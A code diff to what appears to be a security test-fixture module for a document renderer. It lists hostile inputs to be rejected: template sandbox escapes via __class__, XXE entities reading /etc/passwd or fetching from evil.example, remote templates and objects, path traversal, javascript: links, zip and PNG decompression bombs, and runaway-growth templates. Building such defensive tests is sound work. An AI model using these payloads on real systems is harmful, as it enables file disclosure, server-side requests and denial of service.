@@ -5,7 +5,7 @@ import json
 import struct
 import zipfile
 import zlib
-from collections.abc import Iterator, Mapping
+from collections.abc import Callable, Iterator, Mapping, Sequence
 from dataclasses import dataclass, field
 from typing import Any
 
@@ -26,27 +26,39 @@ class Attack:
     files: Mapping[str, bytes]
     data: Any = field(default_factory=lambda: DATA)
 
+    is_patient: bool = False
+
+    @property
+    def must_fail(self) -> bool:
+        """Whether it would have reached what it must not if it were rendered."""
+        return self.name.startswith(("escape", "word escape"))
+
+
+class Patient(str):
+    """A source that only the clock ends, or that is much work to refuse."""
+
 
 def attacks() -> Iterator[Attack]:
     """Give all of them."""
-    yield from _numbered("escape", map(_markdown, ESCAPES))
-    yield from _numbered("word escape", map(_word_text, ESCAPES))
-    yield from _numbered("growth", map(_markdown, GROWTHS))
-    yield from _numbered("word growth", map(_word_text, GROWTHS))
-    yield from _numbered("nesting", map(_markdown, NESTINGS))
-    yield from _named("word", WORD_FILES)
-    yield from (Attack(f"schema {name}", _markdown("x\n", schema=schema), data) for name, schema, data in SCHEMAS)
-    yield from (Attack(f"asset {name}", files) for name, files in _assets())
-    yield from (Attack(f"manifest {number}", _markdown("x\n", head=head)) for number, head in enumerate(MANIFESTS))
-    yield from (Attack(f"data {name}", _markdown("{{ v }}\n"), data) for name, data in _bad_data())
+    yield from _numbered("escape", _markdown, ESCAPES)
+    yield from _numbered("word escape", _word_text, ESCAPES)
+    yield from _numbered("growth", _markdown, GROWTHS)
+    yield from _numbered("word growth", _word_text, GROWTHS)
+    yield from _numbered("nesting", _markdown, NESTINGS)
+    yield from _numbered("manifest", lambda head: _markdown("x\n", head=head), MANIFESTS)
+    for name, content in WORD_FILES.items():
+        yield Attack(f"word {name}", word_template(content), is_patient=name in PATIENT_WORD_FILES)
+    for name, schema, data in SCHEMAS:
+        yield Attack(f"schema {name}", _markdown("x\n", schema=schema), data, name in PATIENT_SCHEMAS)
+    for name, files in _assets():
+        yield Attack(f"asset {name}", files)
+    for name, data in _bad_data():
+        yield Attack(f"data {name}", _markdown("{{ v }}\n"), data, name in PATIENT_DATA)
 
 
-def _numbered(kind: str, templates: Any) -> Iterator[Attack]:
-    return (Attack(f"{kind} {number}", files) for number, files in enumerate(templates))
-
-
-def _named(kind: str, cases: Mapping[str, bytes]) -> Iterator[Attack]:
-    return (Attack(f"{kind} {name}", word_template(content)) for name, content in cases.items())
+def _numbered(kind: str, template: Callable[[str], dict[str, bytes]], sources: Sequence[str]) -> Iterator[Attack]:
+    for number, source in enumerate(sources):
+        yield Attack(f"{kind} {number}", template(source), is_patient=isinstance(source, Patient))
 
 
 def _markdown(source: str, *, schema: Any = None, head: str = HEAD, **assets: bytes) -> dict[str, bytes]:
@@ -148,7 +160,6 @@ ESCAPES = (
     "{{ customer | dictsort(by='__class__') }}",
     "{{ [customer, customer] | max(attribute='__class__') }}",
     "{{ name | default('a', true, __class__=1) }}",
-    "{{ name | safe }}",
     "{{ name | xmlattr }}",
     "{{ name | pprint }}",
     "{{ name | tojson }}",
@@ -210,10 +221,10 @@ GROWTHS = (
     "{{ range(90000) | map('string') | join | length }}",
     "{% for i in range(10 ** 9) %}{% endfor %}",
     "{% for i in range(90000) %}{% for j in range(90000) %}{% endfor %}{% endfor %}",
-    "{% for i in range(99999) %}{{ range(99999) | sum }}{% endfor %}",
-    "{% for i in range(99999) %}{{ range(99999) | list | length }}{% endfor %}",
-    "{% for i in range(99999) %}{{ range(99999) | sort | first }}{% endfor %}",
-    "{% for i in range(99999) %}{{ range(99999) | max }}{% endfor %}",
+    Patient("{% for i in range(99999) %}{{ range(99999) | sum }}{% endfor %}"),
+    Patient("{% for i in range(99999) %}{{ range(99999) | list | length }}{% endfor %}"),
+    Patient("{% for i in range(99999) %}{{ range(99999) | sort | first }}{% endfor %}"),
+    Patient("{% for i in range(99999) %}{{ range(99999) | max }}{% endfor %}"),
     "{% for i in range(99999) %}{{ 99998 in (range(99999) | list) }}{% endfor %}",
     "{{ 9 ** 9 ** 9 }}",
     "{{ 2 ** 10 ** 10 }}",
@@ -232,7 +243,10 @@ GROWTHS = (
     "{% set n = namespace(v='ab') %}" + _DOUBLE + "{% set n.v = n.v | replace('a', n.v) %}" + _END,
     "{% set n = namespace(v='ab') %}" + _DOUBLE + "{% set n.v = n.v | replace('', n.v) %}" + _END,
     "{% set n = namespace(v='ab') %}" + _DOUBLE + "{% set n.v = n.v | upper ~ n.v %}" + _END,
-    "{% set n = namespace(v='ß' ) %}" + _DOUBLE + "{% set n.v = (n.v ~ 'ß') | upper | lower %}{% set n.v = n.v ~ n.v %}" + _END,
+    "{% set n = namespace(v='ß' ) %}"
+    + _DOUBLE
+    + "{% set n.v = (n.v ~ 'ß') | upper | lower %}{% set n.v = n.v ~ n.v %}"
+    + _END,
     "{% set n = namespace(v=[1]) %}" + _DOUBLE + "{% set n.v = n.v + n.v %}" + _END,
     "{% set n = namespace(v=[1]) %}" + _DOUBLE + "{% set n.v = [n.v, n.v] %}" + _END + "{{ n.v | join }}",
     "{% set n = namespace(v=[1]) %}" + _DOUBLE + "{% set n.v = [n.v, n.v] %}" + _END + "{{ n.v | sort }}",
@@ -247,16 +261,16 @@ GROWTHS = (
     "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
     "{% macro a() %}{{ b() }}{% endmacro %}{% macro b() %}{{ a() }}{% endmacro %}{{ a() }}",
     "{% macro m(x) %}{{ m(x + 1) }}{{ m(x + 1) }}{% endmacro %}{{ m(0) }}",
-    "{% macro m(x) %}{% if x %}{{ m(x - 1) }}{{ m(x - 1) }}{% endif %}{% endmacro %}{{ m(40) }}",
-    "{% macro m(x) %}{% if x %}{{ m(x - 1) ~ m(x - 1) }}{% else %}ab{% endif %}{% endmacro %}{{ m(40) }}",
+    Patient("{% macro m(x) %}{% if x %}{{ m(x - 1) }}{{ m(x - 1) }}{% endif %}{% endmacro %}{{ m(40) }}"),
+    Patient("{% macro m(x) %}{% if x %}{{ m(x - 1) ~ m(x - 1) }}{% else %}ab{% endif %}{% endmacro %}{{ m(40) }}"),
     "{% for x in items recursive %}{{ loop(items) }}{% endfor %}",
-    "{% for x in [1] recursive %}{% if loop.depth < 60 %}{{ loop([1, 1]) }}{% endif %}{% endfor %}",
-    "{% set s %}{% for i in range(99999) %}aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa{% endfor %}{% endset %}{{ s ~ s }}",
+    Patient("{% for x in [1] recursive %}{% if loop.depth < 60 %}{{ loop([1, 1]) }}{% endif %}{% endfor %}"),
+    "{% set s %}{% for i in range(99999) %}aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa{% endfor %}{% endset %}{{ s ~ s }}",
     "{{ 1.5 | number(999999999) }}",
     "{{ 1 | money('EUR', 999999999) }}",
     "{{ '1' * 40 }}{{ '9999999999999999999999999999999999999999' | number }}",
     "{{ 1 | round(999999999) }}",
-    "{{ 1 | round(-999999999) }}",
+    Patient("{{ 1 | round(-999999999) }}"),
     "{{ '2026-01-01' | date('" + "y" * 100000 + "') }}",
     "{{ '2026-01-01' | date('" + "'" * 99999 + "') }}",
     "{{ items | map('replace', '', 'x') | list }}",
@@ -265,11 +279,11 @@ GROWTHS = (
     "{{ 'a' | urlencode }}{{ 'a' | filesizeformat }}",
     "{{ range(99999) | groupby('x') }}",
     "{{ (range(99999) | list) | unique | list | length }}{{ (range(99999) | list) | reverse | list | length }}",
-    "{% for i in range(20000) %}{% set x = range(5000) | reverse | list %}{% endfor %}",
+    Patient("{% for i in range(20000) %}{% set x = range(5000) | reverse | list %}{% endfor %}"),
     "{{ '" + "a" * 200_000 + "' | replace('a', '" + "b" * 200_000 + "') }}",
     "{% for c in '" + "a" * 99_999 + "' %}{% for d in '" + "a" * 99_999 + "' %}{% endfor %}{% endfor %}",
-    "{% for i in range(99999) %}{{ ('" + "a b " * 9_999 + "').split() | length }}{% endfor %}",
-    "{% for i in range(99999) %}{{ ('" + "a" * 99_999 + "').upper() | length }}{% endfor %}",
+    Patient("{% for i in range(99999) %}{{ ('" + "a b " * 9_999 + "').split() | length }}{% endfor %}"),
+    Patient("{% for i in range(99999) %}{{ ('" + "a" * 99_999 + "').upper() | length }}{% endfor %}"),
     "{{ t is divisibleby(0) }}",
     "{{ 3 is divisibleby 0 }}",
 )
@@ -281,13 +295,13 @@ NESTINGS = (
     "{{ " + "-" * 9_000 + "1 }}",
     "{{ " + "not " * 9_000 + "1 }}",
     "{{ " + "1+" * 20_000 + "1 }}",
-    "{{ " + "1~" * 20_000 + "1 }}",
+    Patient("{{ " + "1~" * 20_000 + "1 }}"),
     "{{ a" + ".a" * 20_000 + " }}",
     "{{ n" + " | abs" * 9_000 + " }}",
     "{{ 1 if 1 else " * 2_000 + "1" + " }}" * 1,
     "{% if 1 %}" * 900 + "x" + "{% endif %}" * 900,
     "{% for x in items %}" * 25 + "x" + "{% endfor %}" * 25,
-    "{% for x in items %}" * 12 + "x" + "{% endfor %}" * 12,
+    Patient("{% for x in items %}" * 12 + "x" + "{% endfor %}" * 12),
     "{% set x %}" * 500 + "x" + "{% endset %}" * 500,
     "{% filter upper %}" * 500 + "x" + "{% endfilter %}" * 500,
     "{% macro m() %}" * 300 + "x" + "{% endmacro %}" * 300,
@@ -295,25 +309,25 @@ NESTINGS = (
     "> " * 20_000 + "x\n",
     "- " * 5_000 + "x\n",
     "".join(f"{'  ' * depth}- x\n" for depth in range(400)),
-    "*" * 50_000 + "x" + "*" * 50_000 + "\n",
-    "*a " * 30_000 + "\n",
-    "_a*b" * 20_000 + "\n",
-    "**a" * 20_000 + "\n",
-    "[" * 50_000 + "\n",
-    "[" * 20_000 + "a" + "](b)" * 20_000 + "\n",
-    "![" * 20_000 + "a" + "](b)" * 20_000 + "\n",
+    Patient("*" * 50_000 + "x" + "*" * 50_000 + "\n"),
+    Patient("*a " * 30_000 + "\n"),
+    Patient("_a*b" * 20_000 + "\n"),
+    Patient("**a" * 20_000 + "\n"),
+    Patient("[" * 50_000 + "\n"),
+    Patient("[" * 20_000 + "a" + "](b)" * 20_000 + "\n"),
+    Patient("![" * 20_000 + "a" + "](b)" * 20_000 + "\n"),
     "<" * 50_000 + "\n",
     "<a " * 20_000 + "\n",
-    "&" * 100_000 + "\n",
+    Patient("&" * 100_000 + "\n"),
     "`" * 50_000 + "a" + "`" * 49_999 + "\n",
     "".join("`" * count + " " for count in range(1, 700)) + "\n",
     "\\" * 100_000 + "\n",
     "[a]: <" + "b" * 100_000 + "\n",
     "".join(f"[l{number}]: /u\n" for number in range(9_000)) + "".join(f"[l{number}] " for number in range(9_000)),
-    "| a " * 5_000 + "|\n" + "|-" * 5_000 + "|\n" + "| b " * 5_000 + "|\n",
-    "| a | b |\n|---|---|\n" + "| c | d |\n" * 20_000,
-    "a\n" * 100_000,
-    "# a\n" * 20_000,
+    Patient("| a " * 5_000 + "|\n" + "|-" * 5_000 + "|\n" + "| b " * 5_000 + "|\n"),
+    Patient("| a | b |\n|---|---|\n" + "| c | d |\n" * 20_000),
+    Patient("a\n" * 100_000),
+    Patient("# a\n" * 20_000),
     "::: callout\n" * 500 + "x\n" + ":::\n" * 500,
     "".join(f"{':' * (503 - depth)} callout\n" for depth in range(500)) + "x\n",
     "::: callout {" + "a=1 " * 20_000 + "}\n:::\n",
@@ -330,7 +344,7 @@ NESTINGS = (
     "[x](file:///etc/passwd)\n",
     "[x](\\\\share\\file)\n",
     "<javascript:alert(1)>\n",
-    "{{ name }}" * 20_000,
+    Patient("{{ name }}" * 20_000),
     "\U0010f100\U0010f000\U0010f101\n",
     "{{ '\U0010f100' }}\n",
     "{{ '\\x00\\x01\\x0b' }}\n",
@@ -366,14 +380,20 @@ def _overlapping_zip() -> bytes:
     common = struct.pack("<4H3I2H", 0, 8, 0, 33, zlib.crc32(raw), len(packed), len(raw), len(name), 0)
     local = b"PK\x03\x04" + struct.pack("<H", 20) + common + name + packed
     entries = b"".join(
-        b"PK\x01\x02" + struct.pack("<2H", 20, 20) + struct.pack("<4H3I", 0, 8, 0, 33, zlib.crc32(raw), len(packed), len(raw))
-        + struct.pack("<5H2I", 4, 0, 0, 0, 0, 0, 0) + f"n{number:03}".encode()
+        b"PK\x01\x02"
+        + struct.pack("<2H", 20, 20)
+        + struct.pack("<4H3I", 0, 8, 0, 33, zlib.crc32(raw), len(packed), len(raw))
+        + struct.pack("<5H2I", 4, 0, 0, 0, 0, 0, 0)
+        + f"n{number:03}".encode()
         for number in range(999)
     )
     end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 999, 999, len(entries), len(local), 0)
     return local + entries + end
 
 
+PATIENT_WORD_FILES = frozenset({"attributes", "many elements", "many tags", "many runs", "open braces"})
+PATIENT_SCHEMAS = frozenset({"doubling", *(f"pattern {number}" for number in range(1, 7))})
+PATIENT_DATA = frozenset({"many marks", "many lines", "one word", "wide", "directions"})
 WORD_FILES: Mapping[str, bytes] = {
     "no zip": b"MZ not a zip",
     "empty": b"",
@@ -391,10 +411,16 @@ WORD_FILES: Mapping[str, bytes] = {
     "drive name": package(**{"C:evil": b"x"}),
     "null name": package(**{"a": b"x"}).replace(b"\x01\x00\x00\x00a", b"\x01\x00\x00\x00\x00"),
     "entities": _document(f'<!DOCTYPE w [<!ENTITY e0 "aaaaaaaaaa">{_ENTITIES}]><w:document xmlns:w="{WORD}">&e9;'),
-    "external entity": _document(f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{WORD}">&x;'),
-    "parameter entity": _document(f'<!DOCTYPE w [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><w:document xmlns:w="{WORD}">'),
+    "external entity": _document(
+        f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{WORD}">&x;'
+    ),
+    "parameter entity": _document(
+        f'<!DOCTYPE w [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><w:document xmlns:w="{WORD}">'
+    ),
     "external dtd": _document(f'<!DOCTYPE w SYSTEM "http://evil.example/x.dtd"><w:document xmlns:w="{WORD}">'),
-    "include": package('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
+    "include": package(
+        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
+    ),
     "stylesheet": _document(f'<?xml-stylesheet href="http://evil.example/x.xsl"?><w:document xmlns:w="{WORD}">'),
     "deep": package("<w:p>" * 100_000 + "</w:p>" * 100_000),
     "deep tables": package("<w:tbl><w:tr><w:tc>" * 800 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 800),
@@ -406,9 +432,17 @@ WORD_FILES: Mapping[str, bytes] = {
     "many tags": package("<w:p><w:r><w:t>{{ name }}</w:t></w:r></w:p>" * 60_000),
     "open braces": package(f"<w:p><w:r><w:t>{'{{' * 200_000}</w:t></w:r></w:p>"),
     "split braces": package("<w:p>" + "<w:r><w:t>{</w:t></w:r>" * 50_000 + "</w:p>"),
-    "many runs": package("<w:p>" + "<w:r><w:t>{{</w:t></w:r><w:r><w:t> n }</w:t></w:r><w:r><w:t>}</w:t></w:r>" * 9_000 + "</w:p>"),
-    "macros": package(types='<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>', **{"word__vbaProject.bin": b"x"}),
-    "docm": package().replace(b"document.main+xml", b"document.main+xml"),
+    "many runs": package(
+        "<w:p>" + "<w:r><w:t>{{</w:t></w:r><w:r><w:t> n }</w:t></w:r><w:r><w:t>}</w:t></w:r>" * 9_000 + "</w:p>"
+    ),
+    "macros": package(
+        types='<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+        **{"word__vbaProject.bin": b"x"},
+    ),
+    "docm": package(
+        types='<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled"/>',
+        **{"word/x.xml": "<a/>"},
+    ),
     "remote template": package(relationships=_LINK.format("attachedTemplate", "https://evil.example/t.dotm")),
     "remote picture": package(relationships=_LINK.format("image", "https://evil.example/p.png")),
     "remote object": package(relationships=_LINK.format("oleObject", "https://evil.example/o.bin")),
@@ -417,11 +451,24 @@ WORD_FILES: Mapping[str, bytes] = {
     "local link": package(relationships=_LINK.format("hyperlink", "file:///etc/passwd")),
     "share link": package(relationships=_LINK.format("hyperlink", "\\\\\\\\share\\\\x")),
     "script link": package(relationships=_LINK.format("hyperlink", "javascript:alert(1)")),
-    "many links": package(relationships="".join(f'<Relationship Id="i{n}" Type="http://x/image" Target="m{n}"/>' for n in range(50_000))),
-    "escape in attribute": package('<w:p w:rsidR="{{ \'\'.__class__ }}"><w:r><w:t>x</w:t></w:r></w:p>'),
+    "many links": package(
+        relationships="".join(f'<Relationship Id="i{n}" Type="http://x/image" Target="m{n}"/>' for n in range(50_000))
+    ),
+    "escape in attribute": package("<w:p w:rsidR=\"{{ ''.__class__ }}\"><w:r><w:t>x</w:t></w:r></w:p>"),
     "value breaks out": package("<w:p><w:r><w:t>{{ '&lt;/w:t&gt;&lt;w:evil/&gt;' }}</w:t></w:r></w:p>"),
-    "loop around cells": package("<w:p><w:r><w:t>{% for i in range(99999) %}</w:t></w:r></w:p>" + "<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 50 + "<w:p><w:r><w:t>{% endfor %}</w:t></w:r></w:p>"),
-    "rows without end": package("<w:tbl>" + "".join(f"<w:tr><w:tc><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc></w:tr>" for text in ("{%tr for i in range(99999) %}", "{{ i }} " + "x" * 900, "{%tr endfor %}")) + "</w:tbl>"),
+    "loop around cells": package(
+        "<w:p><w:r><w:t>{% for i in range(99999) %}</w:t></w:r></w:p>"
+        + "<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 50
+        + "<w:p><w:r><w:t>{% endfor %}</w:t></w:r></w:p>"
+    ),
+    "rows without end": package(
+        "<w:tbl>"
+        + "".join(
+            f"<w:tr><w:tc><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc></w:tr>"
+            for text in ("{%tr for i in range(99999) %}", "{{ i }} " + "x" * 900, "{%tr endfor %}")
+        )
+        + "</w:tbl>"
+    ),
 }
 
 
@@ -444,7 +491,10 @@ SCHEMAS: tuple[tuple[str, Any, Any], ...] = (
     ("children", {"$defs": {"a": {"anyOf": [{"$ref": "#/$defs/a"}] * 3}}, "$ref": "#/$defs/a"}, {"v": 1}),
     (
         "doubling",
-        {"$defs": {f"d{n}": {"allOf": [{"$ref": f"#/$defs/d{n + 1}"}] * 2} for n in range(40)} | {"d40": {}}, "$ref": "#/$defs/d0"},
+        {
+            "$defs": {f"d{n}": {"allOf": [{"$ref": f"#/$defs/d{n + 1}"}] * 2} for n in range(40)} | {"d40": {}},
+            "$ref": "#/$defs/d0",
+        },
         {"v": 1},
     ),
     ("remote", {"$ref": "https://evil.example/schema.json"}, {"v": 1}),
@@ -464,12 +514,15 @@ SCHEMAS: tuple[tuple[str, Any, Any], ...] = (
 
 MANIFESTS = (
     "a = " + "[" * 20_000,
-    "a" + ".a" * 20_000 + " = 1\n",
+    Patient("a" + ".a" * 20_000 + " = 1\n"),
     HEAD + "x = 1\n" * 3,
     HEAD + f'description = "{"x" * 5_000_000}"\n',
-    HEAD + "".join(f'[[passages]]\nname = "p{n}"\nsource = "x"\nfallback = "x"\n' for n in range(5_000)),
+    Patient(HEAD + "".join(f'[[passages]]\nname = "p{n}"\nsource = "x"\nfallback = "x"\n' for n in range(5_000))),
     HEAD + '[[passages]]\nname = "p"\nsource = "x"\nfallback = "{{ \'\'.__class__ }}"\n',
-    HEAD + '[[passages]]\nname = "p"\nsource = "x"\nfallback = "{% for i in range(99999) %}{{ range(99999) | sum }}{% endfor %}"\n',
+    Patient(
+        HEAD + '[[passages]]\nname = "p"\nsource = "x"\n'
+        'fallback = "{% for i in range(99999) %}{{ range(99999) | sum }}{% endfor %}"\n'
+    ),
     HEAD + '[theme]\ndocx = "../../../etc/passwd"\n',
     HEAD + "[limits]\nmax_source_characters = 99999999999999\n",
     HEAD + 'locale = "../../../etc/passwd"\n',
@@ -480,7 +533,8 @@ MANIFESTS = (
 
 
 def svg(content: str, attributes: str = 'width="10" height="10"') -> bytes:
-    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>{content}</svg>'.encode()
+    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+    return f"<svg {names} {attributes}>{content}</svg>".encode()
 
 
 def png_bomb(width: int, height: int) -> bytes:
@@ -490,7 +544,12 @@ def png_bomb(width: int, height: int) -> bytes:
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
 
     head = struct.pack(">2I5B", width, height, 8, 6, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1_000_000), 9)) + chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", head)
+        + chunk(b"IDAT", zlib.compress(bytes(1_000_000), 9))
+        + chunk(b"IEND", b"")
+    )
 
 
 def _assets() -> Iterator[tuple[str, dict[str, bytes]]]:
@@ -509,8 +568,14 @@ def _assets() -> Iterator[tuple[str, dict[str, bytes]]]:
         "deep.svg": svg("<g>" * 9_000 + "</g>" * 9_000),
         "huge.svg": svg("", 'width="1e30" height="1e30"'),
         "endless.svg": svg("", 'width="99999999999" height="99999999999"'),
-        "filter.svg": svg('<filter id="f"><feGaussianBlur stdDeviation="99999"/></filter><rect filter="url(#f)" width="9" height="9"/>'),
-        "pattern.svg": svg('<pattern id="p" width="0.00001" height="0.00001"><rect width="1" height="1"/></pattern><rect fill="url(#p)" width="9" height="9"/>'),
+        "filter.svg": svg(
+            '<filter id="f"><feGaussianBlur stdDeviation="99999"/></filter>'
+            '<rect filter="url(#f)" width="9" height="9"/>'
+        ),
+        "pattern.svg": svg(
+            '<pattern id="p" width="0.00001" height="0.00001"><rect width="1" height="1"/></pattern>'
+            '<rect fill="url(#p)" width="9" height="9"/>'
+        ),
         "dashes.svg": svg('<path d="M0 0H9999999" stroke="red" stroke-dasharray="0.000001"/>'),
         "pixels.png": png_bomb(60_000, 60_000),
         "lying.png": png_bomb(6_000, 6_000),
